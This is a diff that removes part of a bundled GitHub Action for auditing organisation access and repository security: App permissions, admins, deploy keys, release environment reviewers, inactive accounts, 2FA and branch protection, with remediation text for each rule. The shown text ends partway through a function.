-        why: 'An App installed on all repositories with write to contents, workflows, administration or secrets can change every project at once; a compromise of the App vendor becomes a compromise of the organization.',
-        remediation: 'Limit the installation to the repositories that need it (Organization settings → GitHub Apps → Configure → Only select repositories), or ask the vendor for narrower permissions; list approved Apps in `access-audit.allowed-apps`.',
-        spec: ['S6-2']
-    }
-});
-/** App permissions whose write access changes code, workflows, settings or secrets. */
-const POWERFUL = [
-    'administration',
-    'contents',
-    'workflows',
-    'secrets',
-    'actions',
-    'environments',
-    'organization_administration',
-    'organization_secrets',
-    'members'
-];
-const apps = {
-    id: 'apps',
-    scope: 'org',
-    rules: rulesOf(apps_RULES),
-    async run({ io, org, config, add, skip, notes }) {
-        let list;
-        try {
-            list = await listAll(io, 'GET /orgs/{org}/installations', { org }, 'installations');
-        }
-        catch (e) {
-            return skip(apps_RULES.appBroadWrite.id, `not checked: ${describeApiError(e, 'organization administration: read')}`, org);
-        }
-        const active = list.filter((i) => !i.suspended_at);
-        if (active.length)
-            notes.push(`GitHub Apps installed in ${org}: ${[...active]
-                .sort((a, b) => a.app_slug.localeCompare(b.app_slug))
-                .map((i) => `${i.app_slug} (${i.repository_selection === 'all' ? 'all repositories' : 'selected repositories'})`)
-                .join(', ')}.`);
-        for (const i of active) {
-            if (i.repository_selection !== 'all' || config.allowedApps.includes(i.app_slug.toLowerCase()))
-                continue;
-            const writes = POWERFUL.filter((p) => i.permissions?.[p] === 'write' || i.permissions?.[p] === 'admin');
-            if (!writes.length)
-                continue;
-            add(apps_RULES.appBroadWrite, undefined, {
-                severity: writes.some((w) => w !== 'contents') ? 'medium' : 'low',
-                message: `GitHub App ${i.app_slug} is installed on all repositories of ${org} with write access to ${writes.join(', ')}.`,
-                key: i.app_slug,
-                properties: { app: i.app_slug, writes }
-            });
-        }
-    }
-};
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/logins.ts
-// Who counts as a person: GitHub Apps act as `name[bot]` accounts.
-const isHuman = (login) => !/\[bot\]$/i.test(login);
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/checks/collaborators.ts
-// Who holds a repository (SPEC 6): at least two people with admin or
-// maintain, not too many admins, and outside collaborators with write. The
-// people with write or more go into the access snapshot, and those with admin
-// or maintain to the inactivity check.
-
-
-const collaborators_RULES = defineRules({
-    singleAdmin: {
-        id: 'repo/single-maintainer',
-        title: 'Fewer than two people can administer the repository',
-        severity: 'medium',
-        why: 'If the only admin disappears, nobody can rotate secrets, change protection or respond to an incident.',
-        remediation: 'Give a second maintainer admin or maintain (preferably through a team) and document who holds it.',
-        spec: ['S6-6']
-    },
-    tooManyAdmins: {
-        id: 'repo/too-many-admins',
-        title: 'Many people hold admin on the repository',
-        severity: 'low',
-        why: 'Admin can disable protection and read environment settings; least privilege keeps it to the few who need it.',
-        remediation: 'Lower admins who do not manage settings to maintain or write.',
-        spec: ['S6-2']
-    },
-    outsideWrite: {
-        id: 'repo/outside-collaborator-write',
-        title: 'Outside collaborator with write access or more',
-        severity: 'medium',
-        why: "Outside collaborators are not covered by the organization's membership review and 2FA requirement history.",
-        remediation: 'Confirm the person still needs write access; otherwise lower them to read or remove them (SPEC 6 review).',
-        spec: ['S6-2', 'S6-3']
-    }
-});
-const ELEVATED = new Set(['ADMIN', 'MAINTAIN']);
-const WRITE_OR_MORE = new Set(['WRITE', 'MAINTAIN', 'ADMIN']);
-const collaborators = {
-    id: 'collaborators',
-    scope: 'repo',
-    rules: rulesOf(collaborators_RULES),
-    run({ name, repo, config, failed, unreadable, gathered, add, skip }) {
-        if (failed('collaborators') || !repo.collaborators) {
-            const why = unreadable('collaborators', 'metadata: read', 'not checked: collaborators not returned');
-            skip(collaborators_RULES.singleAdmin.id, why, name);
-        }
-        else {
-            const edges = repo.collaborators.edges ?? [];
-            const humans = edges.flatMap((e) => e.node && isHuman(e.node.login) ? [{ login: e.node.login, permission: e.permission }] : []);
-            const admins = humans.filter((e) => e.permission === 'ADMIN').map((e) => e.login);
-            const keyHolders = humans.filter((e) => ELEVATED.has(e.permission)).map((e) => e.login);
-            for (const l of keyHolders)
-                gathered.elevated.set(l, [...(gathered.elevated.get(l) ?? []), name]);
-            (gathered.access[name] ??= {}).people = humans
-                .filter((e) => WRITE_OR_MORE.has(e.permission))
-                .map((e) => e.login)
-                .sort();
-            if (keyHolders.length < 2) {
-                add(collaborators_RULES.singleAdmin, name, {
-                    message: `${name}: ${keyHolders.length === 0 ? 'nobody' : `only ${keyHolders[0]}`} holds admin or maintain.`,
-                    properties: { admins: keyHolders }
-                });
-            }
-            else if (admins.length > config.maxAdmins) {
-                add(collaborators_RULES.tooManyAdmins, name, {
-                    message: `${name}: ${admins.length} people hold admin (more than ${config.maxAdmins}).`,
-                    properties: { admins }
-                });
-            }
-        }
-        if (failed('outside') || !repo.outside)
-            skip(collaborators_RULES.outsideWrite.id, unreadable('outside', 'metadata: read'), name);
-        else {
-            for (const e of repo.outside.edges ?? []) {
-                if (e.node && WRITE_OR_MORE.has(e.permission)) {
-                    add(collaborators_RULES.outsideWrite, name, {
-                        message: `${name}: outside collaborator ${e.node.login} has ${e.permission.toLowerCase()} access.`,
-                        key: e.node.login,
-                        properties: { login: e.node.login, permission: e.permission }
-                    });
-                }
-            }
-        }
-    }
-};
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/checks/deploy-keys.ts
-// Deploy keys (SPEC 6): never-expiring credentials tied to no person; keys
-// that can push, and read-only ones older than a year. The keys go into the
-// access snapshot for the rotation check.
-
-const deploy_keys_RULES = defineRules({
-    deployKeyWrite: {
-        id: 'repo/deploy-key-write',
-        title: 'Deploy key with write access',
-        severity: 'medium',
-        why: 'A write deploy key is a never-expiring credential that can push to any branch it is not blocked from; it is not tied to a person.',
-        remediation: 'Make the key read-only, replace it with a GitHub App or OIDC, or delete it if unused.',
-        spec: ['S6-4']
-    },
-    deployKeyOld: {
-        id: 'repo/deploy-key-old',
-        title: 'Deploy key older than a year',
-        severity: 'low',
-        why: 'Deploy keys never expire; SPEC 6 asks credentials to be replaced after a reasonable time, typically a year, and an old key is often one nobody remembers.',
-        remediation: 'Replace the key (or delete it if unused) and note who holds the new one.',
-        spec: ['S6-4']
-    }
-});
-const deployKeys = {
-    id: 'deploy-keys',
-    scope: 'repo',
-    rules: rulesOf(deploy_keys_RULES),
-    run({ name, repo, now, failed, unreadable, gathered, add, skip }) {
-        if (failed('deployKeys') || !repo.deployKeys)
-            return skip(deploy_keys_RULES.deployKeyWrite.id, unreadable('deployKeys', 'administration: read'), name);
-        (gathered.access[name] ??= {}).deployKeys = (repo.deployKeys.nodes ?? []).map((k) => ({
-            title: k.title,
-            createdAt: k.createdAt
-        }));
-        for (const k of repo.deployKeys.nodes ?? []) {
-            const props = { title: k.title, createdAt: k.createdAt };
-            if (!k.readOnly) {
-                add(deploy_keys_RULES.deployKeyWrite, name, {
-                    message: `${name}: deploy key "${k.title}" (added ${String(k.createdAt).slice(0, 10)}) can push.`,
-                    key: k.title,
-                    properties: props
-                });
-            }
-            else if (Date.parse(k.createdAt) < now.getTime() - 365 * 86_400_000) {
-                add(deploy_keys_RULES.deployKeyOld, name, {
-                    message: `${name}: read-only deploy key "${k.title}" was added on ${String(k.createdAt).slice(0, 10)}, more than a year ago.`,
-                    key: k.title,
-                    properties: props
-                });
-            }
-        }
-    }
-};
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/checks/environments.ts
-// Release environments (SPEC 8): the environments whose names match
-// `release-environments` need two distinct human reviewers (team members
-// counted), no self-review, and a deployment branch policy.
-
-
-const environments_RULES = defineRules({
-    envNoReviewers: {
-        id: 'env/no-reviewers',
-        title: 'Release environment has no required reviewers',
-        severity: 'high',
-        why: 'Any workflow run allowed into the environment publishes without a human approving it.',
-        remediation: 'Environment settings → Required reviewers: add at least two maintainers and tick "Prevent self-review".',
-        spec: ['S8-3', 'S8-8']
-    },
-    envSingleReviewer: {
-        id: 'env/single-reviewer',
-        title: 'Release environment has fewer than two distinct reviewers',
-        severity: 'medium',
-        why: 'With one reviewer, releases stop when that person is away, and self-approval becomes the norm.',
-        remediation: 'Add a second maintainer (or a team with two people) as required reviewer.',
-        spec: ['S8-3', 'S6-6']
-    },
-    envSelfReview: {
-        id: 'env/self-review-allowed',
-        title: 'Release environment allows self-review',
-        severity: 'medium',
-        why: 'The person who triggered the release can approve it, so the second-person check is optional.',
-        remediation: 'Tick "Prevent self-review" in the environment settings.',
-        spec: ['S8-3']
-    },
-    envAnyBranch: {
-        id: 'env/any-branch',
-        title: 'Release environment can be used from any branch',
-        severity: 'medium',
-        why: 'A workflow on an unreviewed branch can enter the environment and use its secrets or its PyPI Trusted Publisher.',
-        remediation: 'Set Deployment branches and tags to "Protected branches" or to release tags only.',
-        spec: ['S8-8']
-    }
-});
-const environments = {
-    id: 'environments',
-    scope: 'repo',
-    rules: rulesOf(environments_RULES),
-    run({ name, repo, config, teams, failed, unreadable, add, skip }) {
-        if (failed('environments') || !repo.environments)
-            return skip(environments_RULES.envNoReviewers.id, unreadable('environments', 'actions: read'), name);
-        for (const env of repo.environments.nodes ?? []) {
-            if (!config.releaseEnvironments.test(env.name))
-                continue;
-            const rules = env.protectionRules?.nodes ?? [];
-            const props = { environment: env.name };
-            const reviewRule = rules.find((r) => r.type === 'REQUIRED_REVIEWERS');
-            if (!reviewRule)
-                add(environments_RULES.envNoReviewers, name, {
-                    message: `${name}: environment ${env.name} has no required reviewers.`,
-                    key: env.name,
-                    properties: props
-                });
-            else {
-                const people = new Set();
-                let unknownTeam = false;
-                for (const r of reviewRule.reviewers?.nodes ?? []) {
-                    if (r.__typename === 'User' && isHuman(r.login))
-                        people.add(r.login.toLowerCase());
-                    if (r.__typename === 'Team') {
-                        const members = teams?.get(r.slug);
-                        if (!members)
-                            unknownTeam = true;
-                        for (const m of members ?? [])
-                            if (isHuman(m))
-                                people.add(m.toLowerCase());
-                    }
-                }
-                if (people.size < 2 && unknownTeam) {
-                    skip(environments_RULES.envSingleReviewer.id, `not checked for ${env.name}: the members of a reviewing team were not readable (needs members: read)`, name);
-                }
-                else if (people.size < 2) {
-                    add(environments_RULES.envSingleReviewer, name, {
-                        message: `${name}: environment ${env.name} has ${people.size} distinct human reviewer${people.size === 1 ? '' : 's'}.`,
-                        key: env.name,
-                        properties: props
-                    });
-                }
-                if (!reviewRule.preventSelfReview)
-                    add(environments_RULES.envSelfReview, name, {
-                        message: `${name}: environment ${env.name} lets the person who started a run approve it.`,
-                        key: env.name,
-                        properties: props
-                    });
-            }
-            if (!rules.some((r) => r.type === 'BRANCH_POLICY')) {
-                add(environments_RULES.envAnyBranch, name, {
-                    message: `${name}: environment ${env.name} accepts deployments from any branch.`,
-                    key: env.name,
-                    properties: props
-                });
-            }
-        }
-    }
-};
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/checks/inactivity.ts
-// Possibly inactive people with elevated access, from layered evidence, cheapest
-// first: commits on the default branches already fetched with the repositories;
-// then GitHub's contribution data (commits, issues, pull requests, reviews) in
-// windows of at most a year, GitHub's limit; then the organization audit log,
-// which only GitHub Enterprise Cloud has. Each layer only asks about the people
-// the previous ones did not see. A finding says "possibly inactive" and lists
-// the evidence looked at; nobody is removed.
-
-
-const inactivity_RULES = defineRules({
-    inactive: {
-        id: 'people/possibly-inactive',
-        title: 'Person with elevated access shows no recent activity',
-        severity: 'low',
-        why: 'Dormant accounts with admin or maintain access are attractive targets and rarely noticed when compromised.',
-        remediation: 'Follow the SPEC 6 review: ask the person whether they still need the access, then lower it if not. Nobody is removed automatically.',
-        spec: ['S6-3', 'S6-8']
-    }
-});
-const DAY = 86_400_000;
-const BATCH = 20;
-const inactivity = {
-    id: 'inactivity',
-    scope: 'after',
-    rules: rulesOf(inactivity_RULES),
-    run: (c) => judge(c, c.gathered)
-};
-async function judge({ io, org, now, inactiveDays, add, skip, notes }, input) {
-    let unseen = [...input.elevated.keys()].filter((l) => !input.committers.has(l.toLowerCase())).sort();
-    const unknown = new Map(); // login → why it could not be decided
-    const sources = [
-        input.historyComplete
-            ? 'commits on the audited default branches'
-            : 'commits on the default branches that were readable'
-    ];
-    // GitHub's contribution data, one window of at most 365 days at a time, newest first.
-    const start = now.getTime() - inactiveDays * DAY;
-    for (let to = now.getTime(); to > start && unseen.length; to -= 365 * DAY) {
-        const from = Math.max(start, to - 365 * DAY);
-        const active = new Set();
-        for (let i = 0; i < unseen.length; i += BATCH) {
-            const batch = unseen.slice(i, i + BATCH);
-            try {
-                const vars = { from: new Date(from).toISOString(), to: new Date(to).toISOString() };
-                batch.forEach((l, j) => (vars[`u${j}`] = l));
-                const { data, errors } = await io.graphql(activityQuery(batch.length), vars);
-                batch.forEach((login, j) => {
-                    const c = data?.[`u${j}`]
-                        ?.contributionsCollection;
-                    if (!c)
-                        unknown.set(login, errors?.find((e) => e.path?.[0] === `u${j}`)?.message ?? 'no contribution data');
-                    else if (total(c) > 0)
-                        active.add(login);
-                });
-            }
-            catch (e) {
-                for (const login of batch)
-                    unknown.set(login, describeApiError(e));
-            }
-        }
-        unseen = unseen.filter((l) => !active.has(l) && !unknown.has(l));
-    }
-    sources.push('contributions on GitHub (commits, issues, pull requests, reviews)');
-    // The audit log sees what contributions do not (merges, settings, web activity); Enterprise Cloud only.
-    if (unseen.length) {
-        const since = new Date(start).toISOString().slice(0, 10);
-        let available = true;
-        const active = new Set();
-        for (let i = 0; i < unseen.length && available; i += BATCH) {
-            const batch = unseen.slice(i, i + BATCH);
-            const vars = { org };
-            batch.forEach((l, j) => (vars[`q${j}`] = `actor:${l} created:>=${since}`));
-            try {
-                const { data, errors } = await io.graphql(auditLogQuery(batch.length), vars);
-                const log = data?.organization;
-                if (!log || batch.some((_, j) => !log[`a${j}`])) {
-                    available = false;
-                    notes.push(`The organization audit log was not readable (${errors?.[0]?.message ?? 'no answer'}); it exists on GitHub Enterprise Cloud only. Inactivity was judged from commits and contributions.`);
-                    break;
-                }
-                batch.forEach((login, j) => {
-                    if (log[`a${j}`]?.nodes?.length)
-                        active.add(login);
-                });
-            }
-            catch (e) {
-                available = false;
-                notes.push(`The organization audit log was not readable (${describeApiError(e)}); inactivity was judged from commits and contributions.`);
-            }
-        }
-        if (available)
-            sources.push('the organization audit log');
-        unseen = unseen.filter((l) => !active.has(l));
-    }
-    for (const [login, reason] of unknown)
-        skip(inactivity_RULES.inactive.id, `not checked: ${reason}`, login);
-    for (const login of unseen) {
-        const repos = input.elevated.get(login);
-        add(inactivity_RULES.inactive, undefined, {
-            message: `${login} holds admin or maintain on ${repos.length} repositor${repos.length === 1 ? 'y' : 'ies'} (${repos.slice(0, 5).join(', ')}${repos.length > 5 ? ', …' : ''}) and shows no activity in the last ${inactiveDays} days: possibly inactive.`,
-            key: login,
-            confidence: 'medium',
-            properties: { login, repos, evidence: sources }
-        });
-    }
-}
-const total = (c) => c.totalCommitContributions +
-    c.totalIssueContributions +
-    c.totalPullRequestContributions +
-    c.totalPullRequestReviewContributions +
-    c.restrictedContributionsCount;
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/checks/org-settings.ts
-// The organization's own settings: required two-factor authentication and the
-// base permission, from `GET /orgs/{org}`, which the engine reads first (it
-// tells whether the organization can be audited at all). Owner-only fields
-// are simply absent for other callers.
-
-const org_settings_RULES = defineRules({
-    orgTwoFactor: {
-        id: 'org/2fa-not-required',
-        title: 'Organization does not require two-factor authentication',
-        severity: 'high',
-        why: "Without required 2FA a single phished password gives an attacker the member's access to every repository and release credential.",
-        remediation: 'Organization settings → Authentication security → "Require two-factor authentication for everyone". Members without 2FA are removed, so warn them first.',
-        spec: ['S6-11']
-    },
-    defaultPermission: {
-        id: 'org/default-permission-too-broad',
-        title: 'Organization base permission grants write or admin',
-        severity: 'high',
-        why: 'The base permission applies to every member on every repository, so each member can push to all of them.',
-        remediation: 'Organization settings → Member privileges → Base permissions: "Read" or "No permission"; grant write through teams.',
-        spec: ['S6-2']
-    }
-});
-const orgSettings = {
-    id: 'org-settings',
-    scope: 'org',
-    rules: rulesOf(org_settings_RULES),
-    async run({ org, settings, add, skip }) {
-        if ('error' in settings) {
-            for (const r of [org_settings_RULES.orgTwoFactor, org_settings_RULES.defaultPermission])
-                skip(r.id, `not checked: ${describeApiError(settings.error, 'organization administration: read')}`, org);
-            return;
-        }
-        const { data } = settings;
-        if (typeof data.two_factor_requirement_enabled !== 'boolean') {
-            skip(org_settings_RULES.orgTwoFactor.id, 'not checked: needs organization administration: read (GitHub returned no two_factor_requirement_enabled)', org);
-        }
-        else if (!data.two_factor_requirement_enabled) {
-            add(org_settings_RULES.orgTwoFactor, undefined, { message: `${org} does not require two-factor authentication.` });
-        }
-        if (typeof data.default_repository_permission !== 'string') {
-            skip(org_settings_RULES.defaultPermission.id, 'not checked: needs organization administration: read (GitHub returned no default_repository_permission)', org);
-        }
-        else if (['write', 'admin'].includes(data.default_repository_permission)) {
-            add(org_settings_RULES.defaultPermission, undefined, {
-                message: `${org} gives every member ${data.default_repository_permission} on every repository.`
-            });
-        }
-    }
-};
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/checks/owners.ts
-// The organization's owners: at least two, and not so many that every extra
-// one widens who can change any setting and reach every secret.
-
-
-const owners_RULES = defineRules({
-    tooFewOwners: {
-        id: 'org/too-few-owners',
-        title: 'Organization has fewer than two owners',
-        severity: 'medium',
-        why: 'With a single owner, the organization is lost (or held hostage) when that person is unavailable.',
-        remediation: 'Promote a second trusted maintainer to owner and document who the owners are.',
-        spec: ['S6-6']
-    },
-    tooManyOwners: {
-        id: 'org/too-many-owners',
-        title: 'Organization has many owners',
-        severity: 'low',
-        why: 'Every owner can change any setting and reach every secret; each extra owner widens the attack surface.',
-        remediation: 'Keep two to a few owners; give others maintain or admin on the repositories they work on.',
-        spec: ['S6-2']
-    }
-});
-const owners = {
-    id: 'owners',
-    scope: 'org',
-    rules: rulesOf(owners_RULES),
-    async run({ io, org, config, settings, add, skip }) {
-        // Owner-only fields of the organization settings were readable: the caller is an owner.
-        const ownerView = 'data' in settings && typeof settings.data.two_factor_requirement_enabled === 'boolean';
-        try {
-            // Without members: read GitHub lists public members only, which would undercount owners:
-            // trust the list only when an owner-only field or a members-only route was readable.
-            if (!ownerView)
-                await io.request('GET /orgs/{org}/teams', { org, per_page: 1 });
-            const list = (await listAll(io, 'GET /orgs/{org}/members', { org, role: 'admin' })).map((m) => m.login);
-            if (list.length < 2)
-                add(owners_RULES.tooFewOwners, undefined, {
-                    message: `${org} has ${list.length} owner${list.length === 1 ? '' : 's'}.`
-                });
-            else if (list.length > config.maxOwners) {
-                add(owners_RULES.tooManyOwners, undefined, {
-                    message: `${org} has ${list.length} owners (more than ${config.maxOwners}).`,
-                    properties: { owners: list }
-                });
-            }
-        }
-        catch (e) {
-            skip(owners_RULES.tooFewOwners.id, `not checked: ${describeApiError(e, 'members: read')}`, org);
-        }
-    }
-};
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/glob.ts
-// Globs as GitHub applies them to ref names, used for repository names too.
-/** fnmatch as GitHub applies it to ref names: `*` stays inside a path segment, `**` crosses them. */
-function globToRegExp(glob) {
-    let re = '';
-    for (let i = 0; i < glob.length; i++) {
-        const c = glob[i];
-        if (c === '*' && glob[i + 1] === '*') {
-            re += '.*';
-            i++;
-        }
-        else if (c === '*')
-            re += '[^/]*';
-        else if (c === '?')
-            re += '[^/]';
-        else
-            re += c.replace(/[.+^${}()|[\]\\]/g, '\\$&');
-    }
-    return new RegExp(`^${re}$`);
-}
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/branch-protection.ts
-// What protects a branch: classic branch protection and active branch
-// rulesets (organization rulesets included) together, as GitHub enforces them.
-
-/** Union of classic protection and active rulesets for one branch; 'unknown' when an unreadable source could change the answer. */
-function branchProtection(repo, branch, readable) {
-    const p = {
-        protected: false,
-        reviews: 0,
-        forcePushBlocked: false,
-        deletionBlocked: false,
-        signaturesRequired: false
-    };
-    if (readable.classic) {
-        const rules = repo.branchProtectionRules?.nodes ?? [];
-        const exact = rules.find((r) => r.pattern === branch);
-        const rule = exact ?? rules.find((r) => globToRegExp(r.pattern).test(branch));
-        if (rule) {
-            p.protected = true;
-            p.reviews = Math.max(p.reviews, rule.requiresApprovingReviews ? (rule.requiredApprovingReviewCount ?? 0) : 0);
-            p.forcePushBlocked ||= !rule.allowsForcePushes;
-            p.deletionBlocked ||= !rule.allowsDeletions;
-            p.signaturesRequired ||= !!rule.requiresCommitSignatures;
-        }
-    }
-    if (readable.rulesets) {
-        const ref = `refs/heads/${branch}`;
-        const isDefault = branch === repo.defaultBranchRef?.name;
-        const matches = (pat) => pat === '~ALL' || (pat === '~DEFAULT_BRANCH' && isDefault) || globToRegExp(pat).test(ref);
-        for (const rs of repo.rulesets?.nodes ?? []) {
-            if (rs.enforcement !== 'ACTIVE' || (rs.target ?? 'BRANCH') !== 'BRANCH')
-                continue;
-            const include = rs.conditions?.refName?.include ?? [];
-            const exclude = rs.conditions?.refName?.exclude ?? [];
-            if (!include.some(matches) || exclude.some(matches))
-                continue;
-            for (const rule of rs.rules?.nodes ?? []) {
-                p.protected = true;
-                if (rule.type === 'NON_FAST_FORWARD')
-                    p.forcePushBlocked = true;
-                if (rule.type === 'DELETION')
-                    p.deletionBlocked = true;
-                if (rule.type === 'REQUIRED_SIGNATURES')
-                    p.signaturesRequired = true;
-                if (rule.type === 'PULL_REQUEST')
-                    p.reviews = Math.max(p.reviews, rule.parameters?.requiredApprovingReviewCount ?? 0);
-            }
-        }
-    }
-    // One readable source showing nothing says nothing about the other.
-    if (!p.protected && !(readable.classic && readable.rulesets))
-        return 'unknown';
-    return p;
-}
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/checks/protection.ts
-// Branch and tag protection (SPEC 8): the default branch and the release
-// branches (`release*`, `maint*`) under classic protection and rulesets
-// together, signed commits where the config asks for them, and a tag ruleset
-// for release tags.
-
-
-
-const protection_RULES = defineRules({
-    branchUnprotected: {
-        id: 'repo/branch-unprotected',
-        title: 'Default or release branch is not protected',
-        severity: 'high',
-        why: 'An unprotected branch can be rewritten or deleted by anyone with write access, including a stolen token, and releases are cut from it.',
-        remediation: 'Add a branch ruleset (Settings → Rules → Rulesets) targeting the default branch and release/* that blocks force pushes and deletion and requires a pull request.',
-        spec: ['S8-5']
-    },
-    noReview: {
-        id: 'repo/review-not-required',
-        title: 'Branch does not require an approving review',
-        severity: 'medium',
-        why: 'Without a required review one compromised account can land code that the next release ships.',
-        remediation: 'In the branch ruleset (or classic protection), require a pull request with at least one approving review.',
-        spec: ['S8-5']
-    },
-    forcePush: {
-        id: 'repo/force-push-allowed',
-        title: 'Force pushes are allowed on a protected branch',
-        severity: 'high',
-        why: 'A force push rewrites history silently; released commits can be replaced.',
-        remediation: 'Add the "Block force pushes" rule to the branch ruleset (or untick "Allow force pushes" in classic protection).',
-        spec: ['S8-5']
-    },
-    deletion: {
-        id: 'repo/deletion-allowed',
-        title: 'A protected branch can be deleted',
-        severity: 'medium',
-        why: 'Deleting the branch loses the protection with it and can be used to recreate it with other content.',
-        remediation: 'Add the "Restrict deletions" rule to the branch ruleset (or untick "Allow deletions").',
-        spec: ['S8-5']
-    },
-    signedCommits: {
-        id: 'repo/signed-commits-not-required',
-        title: 'Default branch does not require signed commits',
-        severity: 'low',
-        why: 'The organization asked for signed commits on this repository (config `require-signed-commits`); without the rule an unsigned commit, possibly from a stolen account or token, lands unnoticed.',
-        remediation: 'Add the "Require signed commits" rule to the branch ruleset (or tick it in classic branch protection).',
-        spec: ['S8-4']
-    },
-    tagsUnprotected: {
-        id: 'repo/tags-unprotected',
-        title: 'Release tags are not protected by a tag ruleset',
-        severity: 'low',
-        why: 'Anyone with write access can move or delete a release tag, so a tag no longer names what was released.',
-        remediation: 'Add a tag ruleset for `v*` that restricts updates and deletions.',
-        spec: ['S8-4']
-    }
-});
-const protection = {
-    id: 'protection',
-    scope: 'repo',
-    rules: rulesOf(protection_RULES),
-    start({ config, notes }) {
-        if (!config.requireSignedCommits.length)
-            notes.push('Signed commits are not checked: no repositories listed in access-audit.require-signed-commits.');
-    },
-    run({ name, repo, config, failed, unreadable, add, skip }) {
-        const readable = { classic: !failed('branchProtectionRules'), rulesets: !failed('rulesets') };
-        const branches = [
-            repo.defaultBranchRef?.name,
-            ...(failed('releaseBranches') ? [] : (repo.releaseBranches?.nodes ?? []).map((n) => n.name))
-        ].filter((b) => !!b && (b === repo.defaultBranchRef?.name || /^(release|maint)/i.test(b)));
-        for (const branch of [...new Set(branches)]) {
-            const p = branchProtection(repo, branch, readable);
-            if (p === 'unknown') {
-                skip(protection_RULES.branchUnprotected.id, `not checked for ${branch}: neither classic protection nor rulesets were readable (needs administration: read)`, name);
-                continue;
-            }
-            const props = { branch };
-            if (!p.protected) {
-                add(protection_RULES.branchUnprotected, name, {
-                    message: `${name}: branch ${branch} has no branch protection and no active ruleset.`,
-                    key: branch,
-                    properties: props
-                });
-                continue;
-            }
-            if (p.reviews < 1)
-                add(protection_RULES.noReview, name, {
-                    message: `${name}: branch ${branch} does not require an approving review.`,
-                    key: branch,
-                    properties: props
-                });
-            if (!p.forcePushBlocked)
-                add(protection_RULES.forcePush, name, {
-                    message: `${name}: force pushes to ${branch} are allowed.`,
-                    key: branch,
-                    properties: props
-                });
-            if (!p.deletionBlocked)
-                add(protection_RULES.deletion, name, {
-                    message: `${name}: branch ${branch} can be deleted.`,
-                    key: branch,
-                    properties: props
-                });
-            // Signed commits only where the organization asked for them (SPEC 8 calls them advisory).
-            if (branch === repo.defaultBranchRef?.name &&
-                !p.signaturesRequired &&
-                config.requireSignedCommits.some((g) => globToRegExp(g).test(name))) {
-                if (readable.classic && readable.rulesets)
-                    add(protection_RULES.signedCommits, name, {
-                        message: `${name}: branch ${branch} does not require signed commits.`,
-                        key: branch,
-                        properties: props
-                    });
-                else
-                    skip(protection_RULES.signedCommits.id, `not checked for ${branch}: classic protection or rulesets were not readable (needs administration: read)`, name);
-            }
-        }
-        if (readable.rulesets) {
-            const tagRules = (repo.rulesets?.nodes ?? []).filter((rs) => rs.enforcement === 'ACTIVE' &&
-                rs.target === 'TAG' &&
-                (rs.rules?.nodes ?? []).some((r) => ['UPDATE', 'DELETION'].includes(r.type)));
-            if (!tagRules.length)
-                add(protection_RULES.tagsUnprotected, name, {
-                    message: `${name}: no active tag ruleset restricts updating or deleting tags.`
-                });
-        }
-        else
-            skip(protection_RULES.tagsUnprotected.id, unreadable('rulesets', 'metadata: read'), name);
-    }
-};
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/publish-jobs.ts
-// A workflow's jobs as the publish checks read them: which jobs publish (or
-// call a local reusable workflow that does), their steps, triggers, `if:`
-// guards, permissions and `needs`, each with the YAML node a finding points at.
-
-const PUBLISH_ACTION = /^pypa\/gh-action-pypi-publish$/i;
-const PUBLISH_COMMAND = /\b(twine\s+upload|uv\s+publish|flit\s+publish|poetry\s+publish|gh\s+release\s+upload)\b/;
-const publish_jobs_str = (n) => (0,dist/* isScalar */.jn)(n) && n.value !== null && n.value !== undefined ? String(n.value) : undefined;
-const mapGet = (m, key) => (0,dist/* isMap */.jh)(m) ? m.get(key, true) : undefined;
-const actionName = (uses) => uses.replace(/@.*$/, '');
-/** `./.github/workflows/x.yml` (a job's `uses:`) as the repository path `.github/workflows/x.yml`. */
-const localWorkflowPath = (uses) => /^\.\/\.github\/workflows\/[^/@]+\.ya?ml$/.test(uses) ? uses.slice(2) : undefined;
-function readJobs(y, publishers) {
-    const jobs = mapGet(y.doc.contents, 'jobs');
-    if (!(0,dist/* isMap */.jh)(jobs))
-        return [];
-    const out = [];
-    for (const pair of jobs.items) {
-        if (!(0,dist/* isMap */.jh)(pair.value))
-            continue;
-        const node = pair.value;
-        const stepsNode = node.get('steps', true);
-        const steps = ((0,dist/* isSeq */.oP)(stepsNode) ? stepsNode.items : []).filter(dist/* isMap */.jh).map((s) => {
-            const usesNode = s.get('uses', true);
-            const runNode = s.get('run', true);
-            return { node: s, usesNode, runNode, uses: publish_jobs_str(usesNode), run: publish_jobs_str(runNode) };
-        });
-        const publishes = steps.some((s) => (s.uses && PUBLISH_ACTION.test(actionName(s.uses))) || (s.run && PUBLISH_COMMAND.test(s.run)));
-        const callee = localWorkflowPath(publish_jobs_str(node.get('uses', true)) ?? '');
-        out.push({
-            id: String(publish_jobs_str(pair.key) ?? pair.key),
-            keyNode: pair.key,
-            node,
-            steps,
-            publishes,
-            callsPublisher: !!callee && publishers.has(callee)
-        });
-    }
-    return out;
-}
-/** Events that start the workflow, each with the node that names it. */
-function triggers(y) {
-    const on = mapGet(y.doc.contents, 'on');
-    if ((0,dist/* isScalar */.jn)(on))
-        return [{ event: String(on.value), node: on }];
-    if ((0,dist/* isSeq */.oP)(on))
-        return on.items.flatMap((n) => ((0,dist/* isScalar */.jn)(n) ? [{ event: String(n.value), node: n }] : []));
-    if ((0,dist/* isMap */.jh)(on))
-        return on.items.flatMap((p) => ((0,dist/* isScalar */.jn)(p.key) ? [{ event: String(p.key.value), node: p.key }] : []));
-    return [];
-}
-/** The events a job's `if:` lets through, when it names them as `github.event_name == '…'` joined by `&&` only. */
-function eventsAllowedByIf(job) {
-    const cond = publish_jobs_str(job.node.get('if', true));
-    if (!cond || /\|\||!=/.test(cond))
-        return undefined;
-    const named = [...cond.matchAll(/github\.event_name\s*==\s*['"](\w+)['"]/g)].map((m) => m[1]);
-    return named.length ? new Set(named) : undefined;
-}
-/** `permissions:` grants id-token: write (directly or through write-all). */
-function grantsIdToken(node) {
-    const perms = mapGet(node, 'permissions');
-    if ((0,dist/* isScalar */.jn)(perms))
-        return perms.value === 'write-all' ? perms : undefined;
-    const idToken = mapGet(perms, 'id-token');
